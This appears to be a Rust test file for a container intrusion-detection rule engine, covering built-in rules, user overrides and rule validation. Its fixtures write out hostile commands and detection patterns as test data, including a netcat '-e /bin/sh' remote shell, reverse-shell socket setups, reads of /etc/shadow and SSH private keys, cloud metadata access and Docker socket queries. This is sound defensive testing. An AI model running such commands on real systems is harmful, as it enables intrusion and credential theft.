#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use super::*;
use crate::event::{
    Ancestor, ConnEvent, ConnPhase, Event, ExecEvent, FdKind, FileEvent, FileOp, ResourceEvent,
};

const CID: &str = "1a239dd541002cd3ce931c0ba17b40c2e27c3ec282a581d572cb8ef31a9ba1b9";

fn exec(name: &str, args: &[&str], parents: &[&str]) -> Event {
    Event::Exec(Box::new(ExecEvent {
        pid: 100,
        name: name.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        tty: Some(0),
        ancestors: parents
            .iter()
            .enumerate()
            .map(|(i, p)| Ancestor {
                pid: 99 - i as u32,
                name: p.to_string(),
                exe: None,
            })
            .collect(),
        complete: true,
        ..ExecEvent::default()
    }))
}

fn fired(set: &RuleSet, ev: &Event, in_container: bool) -> Vec<String> {
    let s = Subject {
        event: ev,
        container: None,
        container_id: in_container.then_some(CID),
    };
    set.matching(&s).map(|r| r.id.clone()).collect()
}

#[test]
fn builtin_rules_compile_and_are_documented() {
    let set = RuleSet::builtin().unwrap();
    let ids: Vec<&str> = set.rules().iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "terminal-shell",
            "shell-from-service",
            "package-manager",
            "netcat-remote-exec",
            "reverse-shell",
            "metadata-service",
            "docker-socket-access",
            "sensitive-file-read",
            "write-below-system-dirs",
            "drop-and-execute",
            "exec-not-allowed",
            "memory-near-limit",
            "pids-near-limit"
        ]
    );
    for r in set.rules() {
        assert!(!r.mitre.is_empty(), "{}", r.id);
        assert!(r.description.len() > 40, "{}", r.id);
    }
}

#[test]
fn each_builtin_rule_fires_on_its_trigger_and_only_in_containers() {
    let set = RuleSet::builtin().unwrap();
    let mut tty_shell = exec("bash", &[], &["runc"]);
    if let Event::Exec(x) = &mut tty_shell {
        x.tty = Some(34816);
    }
    let mut rev = exec("sh", &[], &["nc"]);
    if let Event::Exec(x) = &mut rev {
        x.stdin = FdKind::Socket;
        x.stdout = FdKind::Socket;
    }
    let conn = Event::Conn(ConnEvent {
        time: None,
        phase: ConnPhase::New,
        proto: "tcp",
        src: "172.17.0.2".parse().unwrap(),
        dst: "169.254.169.254".parse().unwrap(),
        src_port: 40000,
        dst_port: 80,
        bytes_orig: None,
        bytes_reply: None,
        reply_src: None,
        reply_src_port: None,
    });
    let cases: Vec<(Event, &[&str])> = vec![
        (tty_shell, &["terminal-shell"]),
        (
            exec("sh", &["-c", "id"], &["x.cgi", "httpd"]),
            &["shell-from-service"],
        ),
        (
            exec("sh", &["-c", "id"], &["nginx"]),
            &["shell-from-service"],
        ),
        (
            exec("apt-get", &["install", "-y", "curl"], &["bash"]),
            &["package-manager"],
        ),
        (exec("apk", &["add", "curl"], &["sh"]), &["package-manager"]),
        (
            exec("pip3", &["install", "requests"], &["sh"]),
            &["package-manager"],
        ),
        (
            exec("python3", &["-m", "pip", "install", "x"], &["sh"]),
            &["package-manager"],
        ),
        (
            exec("nc", &["10.0.0.1", "4444", "-e", "/bin/sh"], &["sh"]),
            &["netcat-remote-exec"],
        ),
        (rev, &["reverse-shell"]),
        (conn, &["metadata-service"]),
    ];
    for (ev, want) in &cases {
        assert_eq!(fired(&set, ev, true), *want, "{ev:?}");
        assert!(
            fired(&set, ev, false).is_empty(),
            "host event fired: {ev:?}"
        );
    }
}

#[test]
fn routine_commands_do_not_fire() {
    let set = RuleSet::builtin().unwrap();
    for ev in [
        exec("sh", &["-c", "ls"], &["containerd-shim"]),
        exec("sh", &["-c", "ls"], &["sh", "nginx"]), // a shell below a shell below a server
        exec("ls", &["-l"], &["sh"]),
        exec("apt-get", &["--version"], &["sh"]),
        exec("apk", &["info"], &["sh"]),
        exec("nc", &["-z", "db", "5432"], &["sh"]),
        exec("nginx", &["-g", "daemon off;"], &["containerd-shim"]),
    ] {
        assert!(fired(&set, &ev, true).is_empty(), "{ev:?}");
    }
}

const USER: &str = r#"
disable: [terminal-shell]
lists:
  shells: [busybox]
  service_binaries: [myserver]
  trusted_images: [registry.example/ops:1]
allow:
  package-manager:
    - container.image in $trusted_images
  shell-from-service:
    - parent.name = "healthcheck.sh"
rules:
  - id: netcat-remote-exec
    description: Overridden by the user to apply to hosts as well as containers.
    severity: LOW
    mitre: [T1059]
    event: exec
    condition: proc.name in $netcat_binaries and proc.args contains "-e"
  - id: curl-pipe
    description: A user rule added on top of the built-in ones.
    severity: HIGH
    event: exec
    condition: proc.name = "curl" and parent.name in $shells
"#;

#[test]
fn user_file_adds_overrides_disables_and_extends() {
    let set = RuleSet::from_texts(BUILTIN_RULES, Some(("user.yaml", USER))).unwrap();
    let ids: Vec<&str> = set.rules().iter().map(|r| r.id.as_str()).collect();
    assert!(!ids.contains(&"terminal-shell"));
    assert_eq!(ids.last(), Some(&"curl-pipe"));
    let nc = set
        .rules()
        .iter()
        .find(|r| r.id == "netcat-remote-exec")
        .unwrap();
    assert_eq!((nc.origin, nc.severity), (Origin::User, Severity::Low));
    // Override: now fires on the host too.
    assert_eq!(
        fired(&set, &exec("nc", &["h", "1", "-e", "sh"], &["sh"]), false),
        ["netcat-remote-exec"]
    );
    // Lists extended: busybox counts as a shell, myserver as a service.
    assert_eq!(
        fired(&set, &exec("busybox", &[], &["myserver"]), true),
        ["shell-from-service"]
    );
    assert!(
        set.lists()["shells"].contains(&"bash".to_string()),
        "extended, not replaced"
    );
    // Allow-list extension for a built-in rule.
    assert!(fired(&set, &exec("sh", &[], &["healthcheck.sh", "nginx"]), true).is_empty());
    // The new rule uses the extended list.
    assert_eq!(
        fired(&set, &exec("curl", &[], &["busybox"]), false),
        ["curl-pipe"]
    );
}

#[test]
fn disable_wins_over_a_user_redefinition() {
    let user = r#"
disable: [reverse-shell]
rules:
  - id: reverse-shell
    description: Redefined and disabled in the same file; disable wins.
    severity: LOW
    event: exec
    condition: container
"#;
    let set = RuleSet::from_texts(BUILTIN_RULES, Some(("u", user))).unwrap();
    assert!(set.rules().iter().all(|r| r.id != "reverse-shell"));
}

#[test]
fn bad_user_files_name_the_problem() {
    for (text, want) in [
        ("disable: [no-such-rule]", "`disable` names rule `no-such-rule`"),
        ("allow: {nope: [container]}", "`allow` names rule `nope`"),
        ("unknown: 1", "unknown field `unknown`"),
        ("rules: [{id: Bad_Id, description: d, severity: LOW, event: exec, condition: container}]", "not kebab-case"),
        ("rules: [{id: x, description: d, severity: LOW, mitre: [X1], event: exec, condition: container}]", "not a MITRE"),
        ("rules: [{id: x, description: d, severity: LOW, event: exec, condition: 'proc.name = sh'}]", "quote strings"),
        ("rules: [{id: x, description: d, severity: LOW, event: connection, condition: 'proc.name = \"sh\"'}]", "does not exist on Connection"),
        ("rules: [{id: x, description: d, severity: LOW, event: files, condition: container}]", "unknown variant `files`"),
        ("rules: [{id: x, description: d, severity: LOW, event: file, condition: 'proc.tty = 0'}]", "does not exist on File"),
        ("rules: [{id: x, description: d, severity: LOW, event: exec, condition: 'file.path = \"/x\"'}]", "does not exist on Exec"),
        ("allow: {reverse-shell: ['proc.nam = \"x\"']}", "allow[0]"),
    ] {
        let e = RuleSet::from_texts(BUILTIN_RULES, Some(("user.yaml", text))).unwrap_err().to_string();
        assert!(e.contains(want), "{text}\n=> {e}");
    }
}

#[test]
fn technique_ids() {
    for ok in ["T1059", "T1059.004"] {
        assert!(is_technique(ok));
    }
    for bad in ["T105", "T1059.04", "t1059", "T1059.0041", "TA0002"] {
        assert!(!is_technique(bad), "{bad}");
    }
}

fn file(op: FileOp, path: &str, name: &str) -> Event {
    Event::File(Box::new(FileEvent {
        op: Some(op),
        path: path.into(),
        pid: 42,
        name: name.into(),
        container_id: Some(CID.into()),
        ..FileEvent::default()
    }))
}

#[test]
fn file_rules_fire_on_their_events_only() {
    let set = RuleSet::builtin().unwrap();
    let f = |ev: &Event| fired(&set, ev, true);
    assert_eq!(
        f(&file(FileOp::Open, "/etc/shadow", "cat")),
        ["sensitive-file-read"]
    );
    assert_eq!(
        f(&file(FileOp::Open, "/root/.ssh/id_ed25519", "cat")),
        ["sensitive-file-read"]
    );
    assert_eq!(
        f(&file(FileOp::Open, "/home/u/.ssh/id_rsa", "cat")),
        ["sensitive-file-read"]
    );
    assert_eq!(
        f(&file(FileOp::Open, "/etc/sudoers.d/x", "cat")),
        ["sensitive-file-read"]
    );
    // The system's own authentication programs may read them.
    assert!(f(&file(FileOp::Open, "/etc/shadow", "unix_chkpwd")).is_empty());
    assert!(f(&file(FileOp::Open, "/etc/passwd", "cat")).is_empty());
    assert!(f(&file(FileOp::Open, "/home/u/.ssh/id_rsa.pub", "cat")).is_empty());
    assert_eq!(
        f(&file(FileOp::Write, "/etc/profile", "sh")),
        ["write-below-system-dirs"]
    );
    assert_eq!(
        f(&file(FileOp::Write, "/usr/bin/x", "cp")),
        ["write-below-system-dirs"]
    );
    assert!(f(&file(FileOp::Write, "/tmp/x", "sh")).is_empty());
    assert!(f(&file(FileOp::Open, "/etc/profile", "sh")).is_empty());
    assert!(f(&file(FileOp::Write, "/etcetera", "sh")).is_empty());
    // drop-and-execute: the upper layer decides; unknown is not a finding.
    let mut dropped = file(FileOp::Exec, "/tmp/x", "x");
    assert!(f(&dropped).is_empty());
    if let Event::File(x) = &mut dropped {
        x.upper_layer = Some(true);
    }
    assert_eq!(f(&dropped), ["drop-and-execute"]);
    // exec-not-allowed needs a profile, and fires only on what it lacks.
    let mut e = file(FileOp::Exec, "/bin/busybox", "sh");
    assert!(f(&e).is_empty());
    if let Event::File(x) = &mut e {
        x.allowlisted = Some(true);
    }
    assert!(f(&e).is_empty());
    if let Event::File(x) = &mut e {
        x.allowlisted = Some(false);
    }
    assert_eq!(f(&e), ["exec-not-allowed"]);
    // Host processes never fire the built-in file rules.
    assert!(fired(&set, &file(FileOp::Open, "/etc/shadow", "cat"), false).is_empty());
}

#[test]
fn resource_rules_fire_near_the_limits() {
    let set = RuleSet::builtin().unwrap();
    let r = |mem: Option<u32>, pids: Option<u32>| {
        fired(
            &set,
            &Event::Resource(Box::new(ResourceEvent {
                container_id: CID.into(),
                memory_pct: mem,
                pids_pct: pids,
                ..ResourceEvent::default()
            })),
            true,
        )
    };
    assert_eq!(r(Some(95), Some(10)), ["memory-near-limit"]);
    assert_eq!(r(Some(89), Some(90)), ["pids-near-limit"]);
    assert!(r(None, None).is_empty());
}

#[test]
fn docker_socket_clients_in_containers() {
    let set = RuleSet::builtin().unwrap();
    let exec = |name: &str, args: &[&str]| {
        Event::Exec(Box::new(ExecEvent {
            name: name.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            ..ExecEvent::default()
        }))
    };
    for ev in [
        exec(
            "curl",
            &[
                "--unix-socket",
                "/var/run/docker.sock",
                "http://x/containers/json",
            ],
        ),
        exec("docker", &["ps"]),
        exec("wget", &["-H", "unix:///var/run/docker.sock"]),
    ] {
        assert_eq!(fired(&set, &ev, true), ["docker-socket-access"], "{ev:?}");
    }
    assert!(fired(&set, &exec("curl", &["http://x/"]), true).is_empty());
}
